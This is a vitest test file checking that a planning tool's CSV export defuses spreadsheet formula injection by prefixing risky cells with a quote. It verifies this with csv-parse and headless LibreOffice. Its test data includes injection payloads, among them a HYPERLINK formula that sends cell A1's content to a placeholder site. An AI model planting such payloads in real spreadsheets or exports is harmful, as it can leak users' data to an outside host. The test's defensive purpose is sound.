/**
 * CSV formula injection: a cell starting with = + - @ (or a tab or CR) is a formula to a spreadsheet.
 * Read back with csv-parse (what every cell holds) and with LibreOffice Calc itself, headless (whether
 * the spreadsheet sees a formula): `trekker "=HYPERLINK(…)"` must stay text.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { DOMParser } from '@xmldom/xmldom';
import { parse as parseCsv } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt, runToc, tmpDir } from './support.js';

beforeAll(() => ensureBuilt(), 180_000);

const HOSTILE = {
    owner: '=HYPERLINK("https://voorbeeld.be/?x="&A1,"Klik hier")',
    partner: '+32 3 123 45 67',
    step: '-5 euro per deelnemer',
    description: '@SUM(1+1)',
    tab: '\t=1+2',
};

const THEORY = `uitdaging U "Een uitdaging."
doel D -> U "Een doel."
actie A KT -> D "${HOSTILE.description}" {
    trekker "${HOSTILE.owner.replace(/"/g, '\\"')}"
    partner "${HOSTILE.partner}"
    stap "${HOSTILE.step}"
    stap "${HOSTILE.tab}"
}
`;

function writePlan(): { dir: string; csv: string } {
    const dir = tmpDir('csv-injection');
    fs.writeFileSync(path.join(dir, 'plan.toc'), THEORY);
    const csv = path.join(dir, 'plan.csv');
    const r = runToc(['plan', path.join(dir, 'plan.toc'), '-o', csv]);
    expect(r.code, r.stderr).toBe(0);
    return { dir, csv };
}

describe('CSV formula injection is neutralised', () => {
    it('every cell that would start a formula starts with a quote; the text after it is unchanged (csv-parse)', () => {
        const { csv } = writePlan();
        const [header, row] = parseCsv(fs.readFileSync(csv, 'utf8'), { bom: true, relax_column_count: true }) as string[][];
        const cell = (name: string) => row![header!.indexOf(name)];
        expect(cell('Trekker')).toBe(`'${HOSTILE.owner}`);
        expect(cell('Partners')).toBe(`'${HOSTILE.partner}`);
        expect(cell('Omschrijving')).toBe(`'${HOSTILE.description}`);
        // Several steps share one cell, one per line: the cell starts with the first one.
        expect(cell('Eerste stappen')).toBe(`'${HOSTILE.step}\n${HOSTILE.tab}`);
        for (const value of row!) expect(value, value).not.toMatch(/^[=+\-@\t\r]/);
    });

    const soffice = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find(p => fs.existsSync(p));
    // LibreOffice is not one of the packages `npm test` installs; where it is missing this reader is skipped,
    // and the csv-parse test above still checks every cell.
    it.skipIf(!soffice)('LibreOffice Calc opens the CSV with no formula in it, and shows the owner as text', () => {
        const { dir, csv } = writePlan();
        const profile = path.join(dir, 'lo-profile');
        const r = spawnSync(soffice!, [`-env:UserInstallation=file://${profile}`, '--headless', '--convert-to', 'fods',
            '--infilter=CSV:44,34,76,1', '--outdir', dir, csv], { encoding: 'utf8', timeout: 240_000 });
        const fods = path.join(dir, 'plan.fods');
        expect(fs.existsSync(fods), r.stderr + r.stdout).toBe(true);
        const doc = new DOMParser().parseFromString(fs.readFileSync(fods, 'utf8'), 'text/xml');
        const cells = Array.from(doc.getElementsByTagName('table:table-cell'));
        expect(cells.length).toBeGreaterThan(10);
        expect(cells.filter(c => c.hasAttribute('table:formula')).map(c => c.getAttribute('table:formula'))).toEqual([]);
        const texts = cells.map(c => Array.from(c.getElementsByTagName('text:p')).map(p => p.textContent).join('\n'));
        expect(texts.some(t => t.includes('=HYPERLINK("https://voorbeeld.be/'))).toBe(true);
        expect(texts.some(t => t.includes('+32 3 123 45 67'))).toBe(true);
    }, 300_000);
});
